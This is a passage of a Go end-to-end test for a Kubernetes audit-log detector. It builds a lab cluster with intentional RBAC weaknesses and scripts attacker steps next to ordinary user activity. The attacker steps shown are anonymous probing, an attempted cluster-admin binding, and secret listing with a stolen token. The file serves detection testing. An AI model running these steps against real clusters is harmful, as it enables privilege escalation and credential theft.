package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net"
	"os"
	"sort"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	autoscalingv2 "k8s.io/api/autoscaling/v2"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/apiguard/apiguard/test/e2e/lab"
)

// hoStep is one step of the held-out scenario: an attacker action (attack)
// or an action of the cluster's ordinary users (benign). run returns an
// error only when the step did not execute as planned (a request meant to
// be allowed was refused, a refusal the step relies on did not happen, a
// transport failure); an attacker's refused attempt is a planned outcome.
type hoStep struct {
	id        string
	name      string
	attack    bool
	technique string
	why       string
	run       func() error
}

func (s hoStep) key() string { return s.id + " " + s.name }

// hoBenignAlert is a benign step's alert in the summary.
type hoBenignAlert struct {
	Step     string `json:"step"`
	Rule     string `json:"rule"`
	Severity string `json:"severity"`
	Count    int    `json:"count"`
	Message  string `json:"message"`
}

// hoMissed is an attack step no alert fired on.
type hoMissed struct {
	Step      string `json:"step"`
	Technique string `json:"technique"`
	Why       string `json:"why"`
}

// hoSummary is written to $APIGUARD_HELDOUT_OUT.
type hoSummary struct {
	AttackSteps  int                 `json:"attackSteps"`
	Detected     int                 `json:"detected"`
	Rate         float64             `json:"rate"`
	BenignSteps  int                 `json:"benignSteps"`
	BenignHigh   int                 `json:"benignHigh"`
	Missed       []hoMissed          `json:"missed"`
	BenignAlerts []hoBenignAlert     `json:"benignAlerts"`
	Detections   map[string][]string `json:"detections"`
	NotAsPlanned []string            `json:"notAsPlanned,omitempty"`
}

// TestAuditHeldOut measures `apiguard audit scan` on a held-out corpus: a
// scenario written from public attack knowledge only (Datadog Stratus Red
// Team's Kubernetes techniques, Microsoft's Threat Matrix for Kubernetes,
// MITRE ATT&CK for Containers, KubeHound's attack list, Aqua's RBAC Buster
// and other published incident reports; see testdata/heldout/README.md),
// fixed before any detection result was seen and written without reading
// the detection rules, their documentation or the other audit tests' step
// lists. So it measures how the rules generalise, not how well they fit the
// scenarios they were written against.
//
// On the Hardened lab (real kube-apiserver, etcd and kube-controller-manager,
// RequestResponse audit log), ordinary actors work as they do every day:
// developers (alice, bob), a CI ServiceAccount deploying with Helm, an
// on-call SRE (carol), Prometheus, Argo CD, and the controllers' own
// traffic. An attacker runs 43 single actions through the API server only:
// anonymous probing, a ServiceAccount token stolen from a web pod, a
// developer certificate stolen from a laptop, then the cluster-admin
// ServiceAccount that certificate reaches, a kubelet bootstrap token, a
// forged node identity, a forged cluster-admin client certificate and the
// backdoors it plants. Every request is attributed to its step by the
// Audit-Id the server returns.
//
// Then the log is scanned and the test reports (a) the detection rate: the
// attack steps with at least one alert on their own requests, over the
// attack steps; (b) the high or critical alerts on benign steps. It logs a
// table of every attack step (the rules that fired, or MISSED) and of every
// benign step that alerted, and writes a JSON summary to
// $APIGUARD_HELDOUT_OUT when set. It fails when the rate is under 0.95 or
// more than one high/critical alert fires on benign steps.
func TestAuditHeldOut(t *testing.T) {
	begin := time.Now()
	ctx, cancel := context.WithTimeout(context.Background(), 6*time.Minute)
	defer cancel()
	c := lab.Start(t, lab.Hardened)
	c.WaitAggregated(t)
	rec := &auditRecorder{steps: map[string]string{}}
	plain := c.AdminClient(t) // not recorded: waits and look-ups of the test itself

	const (
		kubectlUA = "kubectl/v1.36.3 (linux/amd64) kubernetes/9c1c5d2"
		kubeletUA = "kubelet/v1.36.3 (linux/amd64) kubernetes/9c1c5d2"
		helmUA    = "Helm/3.17.0"
		argoUA    = "argocd-application-controller/v2.13.0+347f221"
		promUA    = "Prometheus/2.53.0"
		office    = "127.0.0.1"  // developers and on-call (VPN)
		ciRunner  = "127.0.20.5" // CI runners, same network
		attacker  = "127.1.0.1"  // the attacker's first host
		attacker2 = "127.2.0.1"  // a second attacker host (another VPS)
		node      = "lab-control-plane"
	)

	// Clients: source address (Linux routes all of 127/8 to lo), user agent.
	src := func(ip, ua string, extra ...func(*rest.Config)) func(*rest.Config) {
		return func(cfg *rest.Config) {
			cfg.UserAgent = ua
			if ip != "" && ip != "127.0.0.1" {
				d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 10 * time.Second}
				cfg.Dial = d.DialContext
			}
			for _, f := range extra {
				f(cfg)
			}
		}
	}
	client := func(kubeconfig, ip, ua string, extra ...func(*rest.Config)) kubernetes.Interface {
		return rec.client(t, kubeconfig, "", src(ip, ua, extra...))
	}
	clientCfg := func(cfg *rest.Config, ip, ua string) kubernetes.Interface {
		cfg = rec.wrap(cfg, "")
		src(ip, ua)(cfg)
		cs, err := kubernetes.NewForConfig(cfg)
		if err != nil {
			t.Fatal(err)
		}
		return cs
	}
	certCfg := func(cert, key []byte) *rest.Config {
		return &rest.Config{Host: c.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath, CertData: cert, KeyData: key}}
	}
	impersonate := func(user string, groups ...string) func(*rest.Config) {
		return func(cfg *rest.Config) { cfg.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: groups} }
	}

	// Expected outcomes.
	allowed := func(errs ...error) error { return errors.Join(errs...) }
	refused := func(err error) error {
		switch {
		case err == nil:
			return errors.New("allowed, the step expects 403")
		case apierrors.IsForbidden(err):
			return nil
		}
		return fmt.Errorf("want 403: %w", err)
	}
	unauthenticated := func(err error) error {
		switch {
		case err == nil:
			return errors.New("allowed, the step expects 401")
		case apierrors.IsUnauthorized(err):
			return nil
		}
		return fmt.Errorf("want 401: %w", err)
	}
	allowedOrRefused := func(err error) error {
		if err == nil || apierrors.IsForbidden(err) {
			return nil
		}
		return err
	}
	// served accepts any answer of the server: the lab has no kubelet, so
	// exec, logs and the node and service proxies end in a server error
	// after authorization (the request is in the audit log all the same).
	served := func(err error) error {
		var st apierrors.APIStatus
		if err == nil || errors.As(err, &st) {
			return nil
		}
		return err
	}

	// ---- The cluster before the scenario: what an organisation runs. ----
	rec.set("setup")
	admin := client(c.AdminKubeconfig, office, kubectlUA)
	must := func(what string, err error) {
		t.Helper()
		if err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatalf("setup: %s: %v", what, err)
		}
	}
	for _, ns := range []string{"shop", "payments", "ci", "monitoring", "argocd", "gatekeeper-system"} {
		_, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{})
		must("namespace "+ns, err)
	}
	for _, sa := range [][2]string{{"shop", "web"}, {"shop", "release-manager"}, {"ci", "deployer"}, {"monitoring", "prometheus"},
		{"payments", "payments-api"}, {"argocd", "argocd-application-controller"}} {
		_, err := admin.CoreV1().ServiceAccounts(sa[0]).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa[1]}}, metav1.CreateOptions{})
		must("serviceaccount "+sa[0]+"/"+sa[1], err)
	}
	rbacSubject := func(kind, name, ns string) rbacv1.Subject {
		s := rbacv1.Subject{Kind: kind, Name: name, Namespace: ns}
		if kind != rbacv1.ServiceAccountKind {
			s.APIGroup = rbacv1.GroupName
		}
		return s
	}
	roleBinding := func(ns, name, kind, role string, subj ...rbacv1.Subject) {
		_, err := admin.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: kind, Name: role}, Subjects: subj}, metav1.CreateOptions{})
		must("rolebinding "+ns+"/"+name, err)
	}
	clusterRoleBinding := func(name, role string, subj ...rbacv1.Subject) {
		_, err := admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role}, Subjects: subj}, metav1.CreateOptions{})
		must("clusterrolebinding "+name, err)
	}
	_, err := admin.RbacV1().Roles("shop").Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "web-config-reader"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"configmaps", "pods"}, Verbs: []string{"get", "list", "watch"}}}}, metav1.CreateOptions{})
	must("role shop/web-config-reader", err)
	roleBinding("shop", "web-config-reader", "Role", "web-config-reader", rbacSubject(rbacv1.ServiceAccountKind, "web", "shop"))
	roleBinding("shop", "dev-shop-edit", "ClusterRole", "edit", rbacSubject(rbacv1.GroupKind, "dev-shop", ""))
	roleBinding("shop", "ci-deployer-edit", "ClusterRole", "edit", rbacSubject(rbacv1.ServiceAccountKind, "deployer", "ci"))
	_, err = admin.RbacV1().Roles("payments").Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "payments-api"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{"db-credentials"}, Verbs: []string{"get"}}}}, metav1.CreateOptions{})
	must("role payments/payments-api", err)
	roleBinding("payments", "payments-api", "Role", "payments-api", rbacSubject(rbacv1.ServiceAccountKind, "payments-api", "payments"))
	for _, cr := range []*rbacv1.ClusterRole{
		{ObjectMeta: metav1.ObjectMeta{Name: "sre-nodes"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"nodes"}, Verbs: []string{"get", "list", "watch", "patch"}}}},
		{ObjectMeta: metav1.ObjectMeta{Name: "prometheus"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"nodes", "pods", "services", "endpoints"}, Verbs: []string{"get", "list", "watch"}},
			{APIGroups: []string{"discovery.k8s.io"}, Resources: []string{"endpointslices"}, Verbs: []string{"get", "list", "watch"}},
			{NonResourceURLs: []string{"/metrics"}, Verbs: []string{"get"}}}},
	} {
		_, err := admin.RbacV1().ClusterRoles().Create(ctx, cr, metav1.CreateOptions{})
		must("clusterrole "+cr.Name, err)
	}
	clusterRoleBinding("sre-view", "view", rbacSubject(rbacv1.GroupKind, "sre", ""))
	clusterRoleBinding("sre-nodes", "sre-nodes", rbacSubject(rbacv1.GroupKind, "sre", ""))
	clusterRoleBinding("prometheus", "prometheus", rbacSubject(rbacv1.ServiceAccountKind, "prometheus", "monitoring"))
	clusterRoleBinding("argocd-application-controller", "cluster-admin", rbacSubject(rbacv1.ServiceAccountKind, "argocd-application-controller", "argocd"))
	// The weakness the attacker will find: a Tiller-era release ServiceAccount
	// in an application namespace, still bound to cluster-admin.
	clusterRoleBinding("release-manager", "cluster-admin", rbacSubject(rbacv1.ServiceAccountKind, "release-manager", "shop"))
	// kubeadm's node bootstrap: a bootstrap token and its two bindings.
	const bootstrapGroup = "system:bootstrappers:kubeadm:default-node-token"
	_, err = admin.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-abcdef"}, Type: "bootstrap.kubernetes.io/token",
		StringData: map[string]string{"token-id": "abcdef", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true",
			"usage-bootstrap-signing": "true", "auth-extra-groups": bootstrapGroup, "description": "kubeadm join token",
			"expiration": time.Now().Add(24 * time.Hour).UTC().Format(time.RFC3339)},
	}, metav1.CreateOptions{})
	must("bootstrap token", err)
	clusterRoleBinding("kubeadm:kubelet-bootstrap", "system:node-bootstrapper", rbacSubject(rbacv1.GroupKind, bootstrapGroup, ""))
	clusterRoleBinding("kubeadm:node-autoapprove-bootstrap", "system:certificates.k8s.io:certificatesigningrequests:nodeclient", rbacSubject(rbacv1.GroupKind, bootstrapGroup, ""))
	const corefile = `.:53 {
    errors
    health {
       lameduck 5s
    }
    ready
    kubernetes cluster.local in-addr.arpa ip6.arpa {
       pods insecure
       fallthrough in-addr.arpa ip6.arpa
       ttl 30
    }
    prometheus :9153
    forward . /etc/resolv.conf {
       max_concurrent 1000
    }
    cache 30
    loop
    reload
    loadbalance
}
`
	_, err = admin.CoreV1().ConfigMaps("kube-system").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "coredns"},
		Data: map[string]string{"Corefile": corefile}}, metav1.CreateOptions{})
	must("coredns configmap", err)
	// A policy engine's webhook (Gatekeeper's defaults: fail open).
	ignore, sideEffectsNone := admissionregistrationv1.Ignore, admissionregistrationv1.SideEffectClassNone
	gkPath, gkTimeout := "/v1/admit", int32(3)
	_, err = admin.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "gatekeeper-validating-webhook-configuration"},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{
			Name:         "validation.gatekeeper.sh",
			ClientConfig: admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: "gatekeeper-system", Name: "gatekeeper-webhook-service", Path: &gkPath}},
			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}},
			NamespaceSelector: &metav1.LabelSelector{MatchExpressions: []metav1.LabelSelectorRequirement{{Key: "admission.gatekeeper.sh/ignore", Operator: metav1.LabelSelectorOpDoesNotExist}}},
			FailurePolicy:     &ignore, SideEffects: &sideEffectsNone, TimeoutSeconds: &gkTimeout, AdmissionReviewVersions: []string{"v1"},
		}},
	}, metav1.CreateOptions{})
	must("gatekeeper webhook", err)
	_, err = admin.AppsV1().Deployments("shop").Create(ctx, hoDeployment("shop", "web", "registry.example.com/shop/web:2.8.1", "web", 2, false), metav1.CreateOptions{})
	must("deployment shop/web", err)
	_, err = admin.CoreV1().Services("shop").Create(ctx, hoService("web", 8080), metav1.CreateOptions{})
	must("service shop/web", err)
	_, err = admin.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "web-config"},
		Data: map[string]string{"LOG_LEVEL": "info", "CART_URL": "http://cart.shop.svc:8080"}}, metav1.CreateOptions{})
	must("configmap shop/web-config", err)
	_, err = admin.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "web-session-key"},
		StringData: map[string]string{"key": "c2Vzc2lvbi1rZXktZXhhbXBsZQ"}}, metav1.CreateOptions{})
	must("secret shop/web-session-key", err)
	_, err = admin.AppsV1().Deployments("payments").Create(ctx, hoDeployment("payments", "payments-api", "registry.example.com/payments/api:5.2.0", "payments-api", 2, false), metav1.CreateOptions{})
	must("deployment payments/payments-api", err)
	_, err = admin.CoreV1().Services("payments").Create(ctx, hoService("payments-api", 8080), metav1.CreateOptions{})
	must("service payments/payments-api", err)
	_, err = admin.CoreV1().Secrets("payments").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db-credentials"},
		StringData: map[string]string{"username": "payments", "password": "pg-Zk3v9QmT1xW"}}, metav1.CreateOptions{})
	must("secret payments/db-credentials", err)

	token := func(ns, sa string) string {
		t.Helper()
		tr, err := plain.CoreV1().ServiceAccounts(ns).CreateToken(ctx, sa, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
		if err != nil {
			t.Fatalf("setup: token of %s/%s: %v", ns, sa, err)
		}
		return tr.Status.Token
	}
	webKC := c.TokenKubeconfig(t, "web", token("shop", "web"))
	ciKC := c.TokenKubeconfig(t, "deployer", token("ci", "deployer"))
	promKC := c.TokenKubeconfig(t, "prometheus", token("monitoring", "prometheus"))
	argoKC := c.TokenKubeconfig(t, "argocd", token("argocd", "argocd-application-controller"))
	aliceKC := c.UserKubeconfig(t, "alice", "dev-shop")
	bobKC := c.UserKubeconfig(t, "bob", "dev-shop")
	carolKC := c.UserKubeconfig(t, "carol", "sre")
	daveKC := c.UserKubeconfig(t, "dave", "dev-green")

	saGroups := func(ns string) []string {
		return []string{"system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"}
	}
	waitCan := func(user string, groups []string, ra authorizationv1.ResourceAttributes) {
		t.Helper()
		eventually(t, 60*time.Second, fmt.Sprintf("%s may %s %s", user, ra.Verb, ra.Resource), func() (bool, string) {
			r, err := plain.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
				User: user, Groups: groups, ResourceAttributes: &ra}}, metav1.CreateOptions{})
			if err != nil {
				return false, err.Error()
			}
			return r.Status.Allowed, r.Status.Reason
		})
	}
	waitCan("system:serviceaccount:shop:web", saGroups("shop"), authorizationv1.ResourceAttributes{Namespace: "shop", Verb: "list", Resource: "configmaps"})
	waitCan("bob", []string{"dev-shop", "system:authenticated"}, authorizationv1.ResourceAttributes{Namespace: "shop", Verb: "impersonate", Resource: "serviceaccounts"})
	waitCan("alice", []string{"dev-shop", "system:authenticated"}, authorizationv1.ResourceAttributes{Namespace: "shop", Verb: "create", Group: "apps", Resource: "deployments"})
	waitCan("system:serviceaccount:ci:deployer", saGroups("ci"), authorizationv1.ResourceAttributes{Namespace: "shop", Verb: "create", Resource: "secrets"})
	waitCan("carol", []string{"sre", "system:authenticated"}, authorizationv1.ResourceAttributes{Verb: "patch", Resource: "nodes"})
	waitCan("carol", []string{"sre", "system:authenticated"}, authorizationv1.ResourceAttributes{Verb: "list", Resource: "pods"})
	waitCan("system:serviceaccount:monitoring:prometheus", saGroups("monitoring"), authorizationv1.ResourceAttributes{Verb: "list", Resource: "pods"})
	waitCan("system:serviceaccount:argocd:argocd-application-controller", saGroups("argocd"), authorizationv1.ResourceAttributes{Verb: "create", Resource: "namespaces"})
	waitCan("system:serviceaccount:shop:release-manager", saGroups("shop"), authorizationv1.ResourceAttributes{Verb: "list", Resource: "secrets"})
	waitCan("system:serviceaccount:payments:payments-api", saGroups("payments"), authorizationv1.ResourceAttributes{Namespace: "payments", Verb: "get", Resource: "secrets", Name: "db-credentials"})
	waitCan("system:bootstrap:abcdef", []string{"system:bootstrappers", bootstrapGroup, "system:authenticated"},
		authorizationv1.ResourceAttributes{Verb: "create", Group: "certificates.k8s.io", Resource: "certificatesigningrequests", Subresource: "nodeclient"})
	podOf := func(ns, app string) string {
		t.Helper()
		var name string
		eventually(t, 60*time.Second, "a pod of "+ns+"/"+app, func() (bool, string) {
			l, err := plain.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{LabelSelector: "app=" + app})
			if err != nil || len(l.Items) == 0 {
				return false, errString(err)
			}
			name = l.Items[0].Name
			return true, ""
		})
		return name
	}
	podOf("payments", "payments-api")
	podOf("shop", "web")
	t.Logf("setup done in %s", time.Since(begin).Round(time.Millisecond))

	// ---- Actors. ----
	alice := client(aliceKC, office, kubectlUA)
	bob := client(bobKC, office, kubectlUA)
	carol := client(carolKC, office, kubectlUA)
	dave := client(daveKC, office, kubectlUA)
	ci := client(ciKC, ciRunner, helmUA)
	prom := client(promKC, office, promUA)
	argo := client(argoKC, office, argoUA)
	anon := clientCfg(&rest.Config{Host: c.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath}}, attacker, "python-requests/2.31.0")
	stolenWeb := client(webKC, attacker, "curl/8.5.0")
	stolenBob := client(bobKC, attacker, kubectlUA)
	bobAsRM := client(bobKC, attacker, kubectlUA, impersonate("system:serviceaccount:shop:release-manager"))
	// Filled in by the steps that obtain them.
	var rm, bootstrap, nodeID, backdoorSA, forged, paySA kubernetes.Interface
	var nodeCert, nodeKey, forgedCert, forgedKey []byte
	var backdoorToken string
	need := func(cs kubernetes.Interface, what string) error {
		if cs == nil {
			return fmt.Errorf("no %s: an earlier step failed", what)
		}
		return nil
	}
	waitCert := func(cs kubernetes.Interface, name string) ([]byte, error) {
		deadline := time.Now().Add(45 * time.Second)
		for {
			csr, err := cs.CertificatesV1().CertificateSigningRequests().Get(ctx, name, metav1.GetOptions{})
			if err == nil && len(csr.Status.Certificate) > 0 {
				return csr.Status.Certificate, nil
			}
			if time.Now().After(deadline) {
				return nil, fmt.Errorf("CSR %s not signed after 45s (last error %v)", name, err)
			}
			time.Sleep(500 * time.Millisecond)
		}
	}
	podsIn := func(cs kubernetes.Interface, ns, app string) (string, error) {
		l, err := cs.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{LabelSelector: "app=" + app})
		if err != nil {
			return "", err
		}
		if len(l.Items) == 0 {
			return "", fmt.Errorf("no pod of %s/%s", ns, app)
		}
		return l.Items[0].Name, nil
	}
	strategic := func(s string) []byte { return []byte(s) }
	helmRelease := func(name string, version int, status string) *corev1.Secret {
		return &corev1.Secret{
			ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("sh.helm.release.v1.%s.v%d", name, version),
				Labels: map[string]string{"name": name, "owner": "helm", "status": status, "version": fmt.Sprint(version)}},
			Type: "helm.sh/release.v1",
			Data: map[string][]byte{"release": []byte("H4sIAAAAAAAC/+xd23LbOLJ+16qvwKJ2p1a2ZF0s2Y7nJDWy48w4dhyX5SQ7tdrKgiRE" + fmt.Sprint(version))},
		}
	}
	steps := []hoStep{
		// ---- Morning: ordinary work. ----
		{id: "B01", name: "ci-helm-install-cart", run: func() error {
			_, e1 := ci.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "cart-config", Labels: map[string]string{"app.kubernetes.io/managed-by": "Helm"}},
				Data: map[string]string{"CURRENCY": "EUR", "REDIS_ADDR": "redis.shop.svc:6379"}}, metav1.CreateOptions{})
			_, e2 := ci.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "cart-db", Labels: map[string]string{"app.kubernetes.io/managed-by": "Helm"}},
				StringData: map[string]string{"DATABASE_URL": "postgres://cart:s3cr3t@db.shop.svc/cart"}}, metav1.CreateOptions{})
			_, e3 := ci.CoreV1().Services("shop").Create(ctx, hoService("cart", 8080), metav1.CreateOptions{})
			_, e4 := ci.AppsV1().Deployments("shop").Create(ctx, hoDeployment("shop", "cart", "registry.example.com/shop/cart:1.4.2", "", 2, false), metav1.CreateOptions{})
			_, e5 := ci.CoreV1().Secrets("shop").Create(ctx, helmRelease("cart", 1, "deployed"), metav1.CreateOptions{})
			return allowed(e1, e2, e3, e4, e5)
		}},
		{id: "B02", name: "alice-lists-shop-workloads", run: func() error {
			_, e1 := alice.CoreV1().Pods("shop").List(ctx, metav1.ListOptions{})
			_, e2 := alice.AppsV1().Deployments("shop").List(ctx, metav1.ListOptions{})
			_, e3 := alice.AppsV1().Deployments("shop").Get(ctx, "cart", metav1.GetOptions{})
			_, e4 := alice.CoreV1().Services("shop").List(ctx, metav1.ListOptions{})
			return allowed(e1, e2, e3, e4)
		}},
		{id: "B03", name: "prometheus-service-discovery", run: func() error {
			_, e1 := prom.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
			_, e2 := prom.CoreV1().Services("").List(ctx, metav1.ListOptions{})
			_, e3 := prom.DiscoveryV1().EndpointSlices("").List(ctx, metav1.ListOptions{})
			_, e4 := prom.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
			return allowed(e1, e2, e3, e4)
		}},
		{id: "B04", name: "carol-oncall-overview", run: func() error {
			_, e1 := carol.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
			_, e2 := carol.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
			_, e3 := carol.CoreV1().Events("shop").List(ctx, metav1.ListOptions{})
			return allowed(e1, e2, e3)
		}},
		{id: "B05", name: "bob-edits-web-config", run: func() error {
			cm, err := bob.CoreV1().ConfigMaps("shop").Get(ctx, "web-config", metav1.GetOptions{})
			if err != nil {
				return err
			}
			cm.Data["LOG_LEVEL"] = "debug"
			_, err = bob.CoreV1().ConfigMaps("shop").Update(ctx, cm, metav1.UpdateOptions{})
			return err
		}},

		// ---- Anonymous probing from the internet. ----
		{id: "A01", name: "anonymous-list-pods", attack: true,
			technique: "T1613 Container and Resource Discovery; MS: Exposed sensitive interfaces",
			why:       "scanner probing for an API server that answers anonymous requests (kube-hunter, TeamTNT)",
			run: func() error {
				_, err := anon.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				return unauthenticated(err)
			}},
		{id: "A02", name: "anonymous-list-kube-system-secrets", attack: true,
			technique: "T1552.007 Container API; MS: List K8S secrets",
			why:       "grab credentials if anonymous access is bound to a role",
			run: func() error {
				_, err := anon.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
				return unauthenticated(err)
			}},
		{id: "A03", name: "anonymous-create-clusterrolebinding", attack: true,
			technique: "T1098.006 Additional Container Cluster Roles (Aqua RBAC Buster initial step)",
			why:       "RBAC Buster's first move on a misconfigured API server: an admin binding as anonymous",
			run: func() error {
				_, err := anon.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "kube-controller"},
					RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
					Subjects: []rbacv1.Subject{rbacSubject(rbacv1.ServiceAccountKind, "kube-controller", "kube-system")}}, metav1.CreateOptions{})
				return unauthenticated(err)
			}},

		{id: "B06", name: "alice-scales-cart", run: func() error {
			_, err := alice.AppsV1().Deployments("shop").Patch(ctx, "cart", types.MergePatchType, []byte(`{"spec":{"replicas":3}}`), metav1.PatchOptions{}, "scale")
			return err
		}},
		{id: "B07", name: "ci-helm-upgrade-cart", run: func() error {
			_, e1 := ci.CoreV1().Secrets("shop").Create(ctx, helmRelease("cart", 2, "pending-upgrade"), metav1.CreateOptions{})
			_, e2 := ci.AppsV1().Deployments("shop").Patch(ctx, "cart", types.StrategicMergePatchType,
				strategic(`{"spec":{"template":{"spec":{"containers":[{"name":"cart","image":"registry.example.com/shop/cart:1.4.3"}]}}}}`), metav1.PatchOptions{})
			_, e3 := ci.CoreV1().Secrets("shop").Update(ctx, helmRelease("cart", 1, "superseded"), metav1.UpdateOptions{})
			_, e4 := ci.CoreV1().Secrets("shop").Update(ctx, helmRelease("cart", 2, "deployed"), metav1.UpdateOptions{})
			return allowed(e1, e2, e3, e4)
		}},

		// ---- The web pod's ServiceAccount token, stolen through an RCE. ----
		{id: "A04", name: "stolen-web-token-rules-review", attack: true,
			technique: "T1069 Permission Groups Discovery; MS: Access the K8S API server",
			why:       "kubectl auth can-i --list with a token read from a compromised pod",
			run: func() error {
				_, err := stolenWeb.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{
					Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "shop"}}, metav1.CreateOptions{})
				return err
			}},
		{id: "A05", name: "stolen-web-token-list-secrets", attack: true,
			technique: "T1552.007 Container API; MS: List K8S secrets",
			why:       "first thing tried with any token: the namespace's secrets (refused)",
			run: func() error {
				_, err := stolenWeb.CoreV1().Secrets("shop").List(ctx, metav1.ListOptions{})
				return refused(err)
			}},
		{id: "A06", name: "stolen-web-token-cluster-recon", attack: true,
			technique: "T1613 Container and Resource Discovery",
			why:       "map the cluster: namespaces, nodes, every pod (all refused)",
			run: func() error {
				_, e1 := stolenWeb.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
				_, e2 := stolenWeb.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
				_, e3 := stolenWeb.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
				return allowed(refused(e1), refused(e2), refused(e3))
			}},

		{id: "B08", name: "alice-feature-flags-configmap", run: func() error {
			_, e1 := alice.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "feature-flags"},
				Data: map[string]string{"new-checkout": "false"}}, metav1.CreateOptions{})
			_, e2 := alice.CoreV1().ConfigMaps("shop").Patch(ctx, "feature-flags", types.MergePatchType, []byte(`{"data":{"new-checkout":"true"}}`), metav1.PatchOptions{})
			return allowed(e1, e2)
		}},
		{id: "B09", name: "ci-db-migration-job", run: func() error {
			backoff := int32(0)
			_, err := ci.BatchV1().Jobs("shop").Create(ctx, &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "cart-db-migrate-v2"},
				Spec: batchv1.JobSpec{BackoffLimit: &backoff, Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
					Containers: []corev1.Container{{Name: "migrate", Image: "registry.example.com/shop/cart:1.4.3", Args: []string{"migrate", "up"},
						EnvFrom: []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "cart-db"}}}}}}}}}},
				metav1.CreateOptions{})
			return err
		}},
		{id: "B10", name: "alice-auth-can-i-create-deployments", run: func() error {
